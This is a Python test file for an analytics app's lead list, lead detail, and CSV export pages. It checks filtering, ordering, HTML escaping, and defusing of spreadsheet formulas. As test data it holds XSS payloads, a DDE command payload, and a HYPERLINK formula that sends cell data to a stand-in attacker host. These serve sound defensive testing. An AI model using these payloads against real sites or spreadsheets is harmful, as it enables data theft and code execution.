"""The Leads pages and their data: list filters and order, one lead's journey, CSV, escaping.

Leads are built by hand (tests/analyse/journeys.py) with chosen scores, tiers and
deadlines, so every expected order below is worked out from the table in `LEADS`.
"""

from __future__ import annotations

import csv
import html
import io
import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import msgspec
import pytest

from sitepulse.analyse.base import DAY_MS, Period
from sitepulse.analyse.lead_detail import (
    LeadQuery,
    iter_leads,
    lead_channels,
    lead_detail,
    lead_list,
)
from sitepulse.analyse.lead_scores import score_stored_leads
from sitepulse.clock import ManualClock
from sitepulse.config.models import Settings
from sitepulse.model.records import LeadScoreRow
from sitepulse.store.duckdb.backend import DuckDBStore
from sitepulse.web.ui.leads import csv_cell, leads_routes
from tests.analyse.journeys import HOUR, MINUTE, T0, Journeys
from tests.web.ui.ui_server import UiServer, ui_settings

NOW = T0 + 10 * DAY_MS
TIERS = ("premium", "high", "standard", "low", "poor")
SCRIPT = "<script>alert('x')</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "company": "+cmd|' /C calc'!A0",
    "phone": "-2+3",
    "email": "@SUM(1+1)",
}


@dataclass(frozen=True)
class Spec:
    """One hand-built lead of site acme (None score: unscored; due relative to NOW)."""

    key: str
    name: str
    email: str
    company: str
    channel: str
    day: int
    score: float | None = None
    tier: str | None = None
    due: int | None = None
    is_test: bool = False
    is_bot: bool = False


LEADS = (
    Spec("A", "Ada Lovelace", "ada@analytical.example", "Analytical Engines", "Paid Search", 1,
         95, "premium", -2 * HOUR),
    Spec("B", "Bob Builder", "bob@builder.example", "Builder Ltd", "Organic Search", 2,
         75, "high", 3 * HOUR),
    Spec("C", "Cy Twombly", "cy@art.example", "Art Co", "Direct", 3, 55, "standard", -30 * MINUTE),
    Spec("D", "Dee Dee", "dee@ramones.example", "", "Referral", 4, 35, "low"),
    Spec("E", "Eve", "eve@spies.example", "Analytical Spies", "Paid Search", 5),
    Spec("T", "Tess Test", "test@example.com", "", "Direct", 6, 92, "premium", HOUR, is_test=True),
    Spec("X", "Botty", "bot@example.com", "", "Direct", 6, 99, "premium", -HOUR, is_bot=True),
    Spec("O", "Olga Old", "olga@example.com", "", "Direct", -40, 80, "high", -HOUR),
)  # fmt: skip


@dataclass
class Built:
    folder: Path
    settings: Settings
    ids: dict[str, str]  # spec key -> lead id
    scores: dict[str, Any]  # lead A's real score breakdown


def _build(root: Path) -> Built:
    settings = ui_settings(
        root,
        sites=[
            {"id": "acme", "name": "ACME", "public_key": "pk_acme", "token": "sk_" + "a" * 20},
            {"id": "evil", "name": "Evil", "public_key": "pk_evil", "token": "sk_" + "e" * 20},
        ],
    )
    book = Journeys("acme")
    ids: dict[str, str] = {}
    for i, spec in enumerate(LEADS):
        visitor = 100 + i
        ts = T0 + spec.day * DAY_MS
        if spec.key == "A":
            # Ada's journey: organic first, then the paid visit with the lead, then one more.
            first = book.visit(visitor, channel="Organic Search", source="google",
                               medium="organic")  # fmt: skip
            first.page(ts - 5 * HOUR, "/").page(ts - 5 * HOUR + MINUTE, "/pricing")
            first.event(ts - 5 * HOUR + 2 * MINUTE, "click", "download", props={"href": "a.pdf"})
        visit = book.visit(visitor, channel=spec.channel, source="google", medium="cpc",
                           campaign="spring", is_bot=spec.is_bot)  # fmt: skip
        visit.page(ts - 4 * MINUTE, "/services/seo").page(ts - 3 * MINUTE, "/contact")
        visit.form(ts - 2 * MINUTE, "form_start").form(ts - 2 * MINUTE + 1, "field_focus")
        visit.form(ts - MINUTE, "submit")
        visit.lead(ts, name=spec.name, email=spec.email, company=spec.company,
                   is_test=spec.is_test, company_size="51-200", message="Call me")  # fmt: skip
        ids[spec.key] = str(uuid.UUID(bytes=book.leads[-1].lead_id))
        if spec.key == "A":
            book.visit(visitor, channel="Direct").page(ts + HOUR, "/blog")
    other = Journeys("evil")
    # Session ids are global in the store; each book numbers from 1, so keep them apart.
    other._next_session = 10_000
    evil = other.visit(900, channel="Referral", source=IMG, medium="referral", campaign=SCRIPT)
    evil.page(T0 + DAY_MS, "/contact")
    evil.lead(T0 + DAY_MS + MINUTE, name=SCRIPT, company=IMG, email="x@evil.example", message=IMG)
    ids["evil"] = str(uuid.UUID(bytes=other.leads[-1].lead_id))
    other.leads[-1] = msgspec.structs.replace(
        other.leads[-1], referrer=IMG, fields=json.dumps({"note": SCRIPT, IMG: "1"})
    )
    other.events[:] = [msgspec.structs.replace(e, referrer=IMG) for e in other.events]
    sheet = other.visit(901, channel="Direct", campaign="\tcampaign")
    sheet.lead(
        T0 + 2 * DAY_MS,
        name=FORMULAS["name"],
        company=FORMULAS["company"],
        phone=FORMULAS["phone"],
        email=FORMULAS["email"],
    )
    ids["formulas"] = str(uuid.UUID(bytes=other.leads[-1].lead_id))

    book.events += other.events
    book.leads += other.leads
    store = book.save(root)
    try:
        fingerprint = settings.scoring.fingerprint
        # Ada's breakdown is a real score of her lead; the chosen totals drive the list.
        (real,) = score_stored_leads(store, settings, [uuid.UUID(ids["A"]).bytes], NOW)
        breakdown = real.score.to_dict()
        rows = [
            LeadScoreRow(
                lead_id=uuid.UUID(ids[spec.key]).bytes,
                score=spec.score,
                tier=spec.tier or "",
                fit_score=spec.score / 2,
                engagement_score=spec.score / 2,
                breakdown=json.dumps(breakdown if spec.key == "A" else {"components": []}),
                model=fingerprint,
                scored_at=NOW - HOUR,
                follow_up_due=None if spec.due is None else NOW + spec.due,
            )
            for spec in LEADS
            if spec.score is not None
        ]
        store.save_lead_scores(rows)
        # Unscored leads get the current model too, so the server does not score them.
        unscored = [uuid.UUID(ids[s.key]) for s in LEADS if s.score is None]
        unscored += [uuid.UUID(ids["evil"]), uuid.UUID(ids["formulas"])]
        store.cursor().execute(
            "UPDATE leads SET score_model = ? WHERE list_contains(?::UUID[], lead_id)",
            [fingerprint, unscored],
        )
        store.checkpoint()
    finally:
        store.close()
    return Built(root, settings, ids, breakdown)


@dataclass
class Live:
    ui: UiServer
    built: Built


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Built, DuckDBStore]]:
    """The leads in a store of their own, for the data functions."""
    made = _build(tmp_path_factory.mktemp("leads"))
    store = DuckDBStore(made.folder)
    yield made, store
    store.close()


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    """The same leads (new ids) behind the pages, in a server of their own."""
    made = _build(tmp_path_factory.mktemp("leads-live"))
    ui = UiServer(
        made.settings,
        lambda rt: leads_routes(rt),
        clock=ManualClock(NOW),
    ).start()
    yield Live(ui, made)
    ui.stop()


PERIOD = Period("acme", NOW - 30 * DAY_MS, NOW)


def _names(rows: Any) -> list[str]:
    key = {spec.name: spec.key for spec in LEADS}
    return [key[row.name] for row in rows]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        # Overdue first (A due 2 h ago, C 30 min ago), then the next deadline (B),
        # then no deadline by score (D 35, E unscored). Test, bot, old leads are out.
        (LeadQuery(), "ACBDE"),
        (LeadQuery(include_test=True), "ACTBDE"),
        (LeadQuery(tiers=("premium",)), "A"),
        (LeadQuery(tiers=("premium",), include_test=True), "AT"),
        (LeadQuery(tiers=("premium", "standard")), "AC"),
        (LeadQuery(channel="Paid Search"), "AE"),
        (LeadQuery(min_score=50), "ACB"),
        (LeadQuery(max_score=60), "CD"),
        (LeadQuery(min_score=55, max_score=75), "CB"),
        (LeadQuery(overdue_only=True), "AC"),
        (LeadQuery(search="analytical"), "AE"),
        (LeadQuery(search="  BOB "), "B"),
        (LeadQuery(search="%"), ""),
        (LeadQuery(sort="score", descending=True), "ABCDE"),
        (LeadQuery(sort="score"), "DCBAE"),
        (LeadQuery(sort="name"), "ABCDE"),
        (LeadQuery(sort="tier"), "ABCDE"),
        (LeadQuery(sort="tier", descending=True), "DCBAE"),
        (LeadQuery(sort="ts", descending=True), "EDCBA"),
        (LeadQuery(sort="follow_up_due"), "ACBED"),
        (LeadQuery(sort="overdue", descending=True), "CAEDB"),
    ],
)
def test_lead_list_filters_and_order(
    built: tuple[Built, DuckDBStore], query: LeadQuery, expected: str
) -> None:
    _, store = built
    page = lead_list(store, PERIOD, query, now_ms=NOW, tier_order=TIERS, limit=100)
    assert "".join(_names(page.rows)) == expected
    assert page.total == len(expected)
    for row in page.rows:
        spec = next(s for s in LEADS if s.name == row.name)
        assert row.overdue == (spec.due is not None and spec.due < 0)
        assert row.score == spec.score and row.tier == spec.tier


def test_paging_and_chunked_export_agree(built: tuple[Built, DuckDBStore]) -> None:
    _, store = built
    second = lead_list(store, PERIOD, LeadQuery(), now_ms=NOW, tier_order=TIERS, offset=2, limit=2)
    past = lead_list(store, PERIOD, LeadQuery(), now_ms=NOW, offset=40, limit=2)
    chunks = list(iter_leads(store, PERIOD, LeadQuery(), now_ms=NOW, tier_order=TIERS, chunk=2))
    channels = lead_channels(store, PERIOD)
    assert "".join(_names(second.rows)) == "BD" and second.total == 5
    assert past.rows == () and past.total == 5
    assert "".join(_names(chunks)) == "ACBDE"
    assert channels == ["Direct", "Organic Search", "Paid Search", "Referral"]


def test_lead_detail_has_the_journey_and_credits(built: tuple[Built, DuckDBStore]) -> None:
    made, store = built
    lead = lead_detail(store, made.ids["A"], site="acme", now_ms=NOW)
    elsewhere = lead_detail(store, made.ids["A"], site="evil", now_ms=NOW)
    nonsense = lead_detail(store, "not-a-uuid", site="acme", now_ms=NOW)
    assert elsewhere is None and nonsense is None
    assert lead is not None
    assert lead.contact["name"] == "Ada Lovelace" and lead.contact["company_size"] == "51-200"
    assert lead.overdue and lead.follow_up_due_ms == NOW - 2 * HOUR
    assert [(s.channel, s.is_lead_session, s.after_lead) for s in lead.sessions] == [
        ("Organic Search", False, False),
        ("Paid Search", True, False),
        ("Direct", False, True),
    ]
    assert [s.pageviews for s in lead.sessions] == [2, 2, 1]
    first, paid, _ = lead.sessions
    assert [(e.type, e.name, e.path) for e in first.events] == [
        ("pageview", "", "/"),
        ("pageview", "", "/pricing"),
        ("click", "download", "/pricing"),
    ]
    assert first.events[2].props == (("href", "a.pdf"),)
    # field_focus is noise for sales and left out; the lead itself is the last step.
    assert [(e.type, e.name) for e in paid.events] == [
        ("pageview", ""),
        ("pageview", ""),
        ("form", "form_start"),
        ("form", "submit"),
        ("lead", "contact"),
    ]
    credits = {c.model: c.shares for c in lead.credits}
    organic, paid_label = "Organic Search · google / organic", "Paid Search · google / cpc"
    assert credits["first_touch"] == ((organic, 1.0),)
    assert credits["last_touch"] == ((paid_label, 1.0),)
    assert credits["linear"] == ((organic, 0.5), (paid_label, 0.5))
    assert lead.breakdown == made.scores


def _order_in(text: str, names: list[str]) -> list[str]:
    found = sorted((text.index(html.escape(name)), name) for name in names if name in text)
    return [name for _, name in found]


def test_list_page_orders_filters_and_links(live: Live) -> None:
    names = [s.name for s in LEADS]
    server, built = live.ui, live.built
    with server.client("viewer") as c:
        page = c.get("/leads")
        assert page.status_code == 200, page.text
        assert _order_in(page.text, names) == [
            "Ada Lovelace", "Cy Twombly", "Bob Builder", "Dee Dee", "Eve"
        ]  # fmt: skip
        assert f'href="/leads/{built.ids["A"]}' in page.text
        assert "overdue" in page.text
        assert "sort=score&amp;dir=desc" in page.text  # score's first click: best first
        filtered = c.get("/leads", params={"tier": ["premium", "standard"], "test": "1"})
        assert _order_in(filtered.text, names) == ["Ada Lovelace", "Cy Twombly", "Tess Test"]
        found = c.get("/leads", params={"q": "spies", "sort": "score", "dir": "desc"})
        assert _order_in(found.text, names) == ["Eve"]
        compared = c.get("/leads", params={"compare": "1"})
        assert "(previous period: 1)" in compared.text  # Olga, 40 days back
        assert c.get("/leads", params={"tier": "gold"}).status_code == 400
        assert c.get("/leads", params={"min_score": "lots"}).status_code == 400
        assert c.get("/leads", params={"sort": "password"}).status_code == 400
    with server.client(None) as anonymous:
        for path in ("/leads", "/leads.csv", f"/leads/{built.ids['A']}"):
            signed_out = anonymous.get(path)
            assert signed_out.status_code == 303
            assert signed_out.headers["location"].startswith("/login")


def test_lead_page_shows_score_reasons_and_journey(live: Live) -> None:
    server, built = live.ui, live.built
    with server.client("viewer") as c:
        page = c.get(f"/leads/{built.ids['A']}")
        missing = c.get(f"/leads/{uuid.uuid4()}")
        wrong_site = c.get(f"/leads/{built.ids['A']}", params={"site": "evil"})
    assert page.status_code == 200, page.text
    assert missing.status_code == 404 and wrong_site.status_code == 404
    text = html.unescape(page.text)
    for component in built.scores["components"]:
        for hit in component["hits"]:
            assert hit["reason"] in text
    assert "follow-up overdue" in text
    assert "Organic Search · google / organic" in text  # a credited touchpoint
    journey = text[text.index('id="journey-h"') :]
    assert journey.index("/pricing") < journey.index("/services/seo") < journey.index("/blog")
    assert "form_start" in journey and "field_focus" not in journey


@pytest.mark.parametrize("path", ["/leads?site=evil", "/leads/{evil}?site=evil"])
def test_visitor_text_is_escaped_everywhere(live: Live, path: str) -> None:
    server, built = live.ui, live.built
    with server.client("viewer") as c:
        page = c.get(path.format(evil=built.ids["evil"]))
    assert page.status_code == 200, page.text
    raw = page.text
    assert "<script>alert" not in raw and "<img src=x" not in raw
    assert SCRIPT in html.unescape(raw)  # shown, as text
    if "{evil}" in path:
        shown = html.unescape(raw)
        assert IMG in shown  # company, message, referrer, source, field name
        assert shown.count(IMG) >= 4


def test_csv_export_follows_filters_and_defuses_formulas(live: Live) -> None:
    server, built = live.ui, live.built
    with server.client("viewer") as c:
        plain = c.get("/leads.csv", params={"test": "1"})
        evil = c.get("/leads.csv", params={"site": "evil"})
    assert plain.status_code == 200
    assert plain.headers["content-type"].startswith("text/csv")
    assert "attachment" in plain.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(plain.text)))
    assert [r["name"] for r in rows] == [
        "Ada Lovelace", "Cy Twombly", "Tess Test", "Bob Builder", "Dee Dee", "Eve"
    ]  # fmt: skip
    ada = rows[0]
    assert ada["lead_id"] == built.ids["A"] and ada["score"] == "95" and ada["tier"] == "premium"
    assert ada["overdue"] == "true" and rows[-1]["score"] == ""
    (sheet,) = [r for r in csv.DictReader(io.StringIO(evil.text)) if r["email"].startswith("'")]
    for field, value in FORMULAS.items():
        assert sheet[field] == "'" + value
    assert sheet["campaign"] == "'\tcampaign"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-5", "'-5"),
        ("@home", "'@home"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain = fine", "plain = fine"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (12.5, "12.5"),
    ],
)
def test_csv_cell(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
